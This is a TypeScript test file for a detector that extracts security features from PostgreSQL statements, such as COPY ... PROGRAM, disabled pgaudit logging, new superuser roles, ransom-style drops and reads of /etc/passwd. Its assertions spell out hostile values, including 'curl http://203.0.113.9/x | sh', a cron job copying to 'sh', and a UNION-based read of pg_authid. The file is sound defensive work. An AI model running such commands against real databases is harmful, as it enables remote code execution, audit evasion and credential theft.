/** What SQL inside a statement means for the statement. */
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { readBodies } from '../../../fixtures/statements/bodies.ts';
import type { StatementFeatures } from '../../../src/model/statement-features.ts';
import { extractFeatures } from '../../../src/statements/features.ts';
import { loadParser } from '../../../src/statements/parser/parser.ts';

const block = (body: string): StatementFeatures => extractFeatures(`DO $body$ BEGIN ${body} END $body$`);
const examples = new Map(readBodies().map(({ name, sql }) => [name, sql]));

function example(name: string): StatementFeatures {
  const sql = examples.get(name);
  assert.ok(sql !== undefined, name);
  return extractFeatures(sql);
}

before(loadParser);

test('attacks are seen through their bodies', () => {
  for (const name of examples.keys()) {
    if (!name.startsWith('program ')) continue;
    const { flags, path } = example(name);
    assert.ok(flags.includes('body_copy_program'), name);
    // An argument tells its value only when the function is called.
    if (name !== 'program as an argument') assert.notEqual(path, null, name);
  }
  assert.deepEqual(example('program in character codes').flags, [
    'body_chr',
    'body_copy_program',
    'do_block',
    'dyn_exec',
  ]);
  assert.equal(example('program in character codes').path, 'curl http://203.0.113.9/x | sh');

  const audit = example('audit switched off');
  assert.deepEqual(
    [audit.settingName, audit.settingValue, audit.settingScope],
    ['pgaudit.log', 'none', 'session'],
  );
  assert.ok(audit.flags.includes('body_danger'));

  const role = example('new superuser');
  assert.deepEqual(role.roleOptions, ['bypassrls', 'canlogin', 'createrole', 'superuser']);
  assert.deepEqual([role.target, role.rolesGranted, role.grantees], ['evil', ['azure_pg_admin'], ['evil']]);
  for (const flag of ['admin_option', 'sets_password', 'body_danger'])
    assert.ok(role.flags.includes(flag), flag);

  const ransom = example('everything dropped and a note left');
  for (const flag of ['drop_data', 'ransom_name', 'ransom_text', 'create_table', 'insert'])
    assert.ok(ransom.flags.includes(flag), flag);

  const loot = example('out through another server');
  assert.deepEqual(loot.hosts, ['203.0.113.9']);
  assert.equal(loot.path, '/etc/passwd');
  assert.ok(loot.flags.includes('body_danger'));
});

test('COPY … PROGRAM in pieces tells the program, in a block, a function and a job', () => {
  const copy = `'COPY t FROM PROG' || 'RAM ''id'''`;
  assert.equal(block(`EXECUTE ${copy};`).path, 'id');
  const made = `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE ${copy}; END $$`;
  assert.equal(extractFeatures(made).path, 'id');
  assert.equal(extractFeatures("SELECT cron.schedule('* * * * *', 'COPY t TO PROGRAM ''sh''')").path, 'sh');
  assert.equal(block(`COPY t TO '/tmp/x'; EXECUTE ${copy};`).path, 'id', 'a program outranks a file');
  assert.equal(block(`EXECUTE ${copy}; COPY t TO '/tmp/x';`).path, 'id');
  assert.equal(block(`EXECUTE 'COPY t FROM PROGRAM ' || quote_literal(x);`).path, null, 'not known');
});

test('destruction inside a block is told with its objects, and counted in their own rows', () => {
  const features = block('TRUNCATE a; DROP TABLE s.b; DELETE FROM c;');
  for (const flag of ['truncate', 'drop_data', 'delete', 'dml_no_where'])
    assert.ok(features.flags.includes(flag), flag);
  assert.deepEqual(features.relationsWritten, ['a', 'c', 's.b']);
  assert.deepEqual([features.dropCount, features.statementCount, features.kinds], [0, 1, ['DoStmt']]);
});

test('of several parameters the one that matters most for security is told, wherever it stands', () => {
  const audit = "SET pgaudit.log = 'none'; ";
  for (const body of [`SET work_mem = '1MB'; ${audit}`, `${audit} SET work_mem = '1MB';`]) {
    const { settingName, settingValue } = block(body);
    assert.deepEqual([settingName, settingValue], ['pgaudit.log', 'none']);
  }
  assert.equal(block("EXECUTE 'SET pgaudit.log = ' || quote_literal(x);").settingValue, null);
  assert.equal(block('ALTER SYSTEM SET log_connections = off;').settingScope, 'system');
  const role = block("ALTER ROLE app SET pgaudit.log = 'none';");
  assert.deepEqual([role.settingScope, role.target], ['role', 'app']);
});

test('extensions: the first one, but before all others the loss of pgaudit', () => {
  assert.equal(block('CREATE EXTENSION a; CREATE EXTENSION b;').extension, 'a');
  const dropped = block('CREATE EXTENSION a; DROP EXTENSION pgaudit;');
  assert.equal(dropped.extension, 'pgaudit');
  assert.ok(dropped.flags.includes('drop_ext'));
});

test('what is only stored does nothing yet, but what it holds is told', () => {
  const { flags, relationsWritten, settingName, roleOptions } = extractFeatures(
    `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE a; SET pgaudit.log = 'none'; CREATE ROLE b SUPERUSER; END $$`,
  );
  assert.deepEqual(flags, ['body_danger']);
  assert.deepEqual([relationsWritten, settingName, roleOptions], [[], null, []]);
});

test('how an inner text is built is not said of the block: it is not what was injected', () => {
  const { flags } = block(
    'PERFORM pg_sleep(1); PERFORM * FROM a WHERE b = 1 OR 1=1 UNION SELECT NULL, NULL FROM pg_authid; PERFORM 1;',
  );
  assert.deepEqual(flags, ['do_block']);
});

test('columns and catalogs of what runs are told, names that are not known are not', () => {
  const features = block(
    "UPDATE t SET a = 1 WHERE t.b = 2; DELETE FROM pg_largeobject WHERE loid = 1; EXECUTE 'DROP TABLE ' || quote_ident(x);",
  );
  assert.deepEqual(features.catalogsWritten, ['pg_largeobject']);
  assert.ok(features.relationsWritten.every((name) => name !== '_'));
  for (const column of [...features.columnsRead, ...features.columnsWritten])
    assert.doesNotMatch(column, /(?:^|\.)_(?:\.|$)/);
});

test('a stored function may write line breaks; a block of character codes is what it is', () => {
  const lines = "x := 'a' || chr(10) || chr(13) || chr(9);";
  const made = `CREATE FUNCTION f(x text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN ${lines} END $$`;
  assert.equal(extractFeatures(made).chrChain, 0);
  assert.equal(example('program in character codes').chrChain, 5);
});
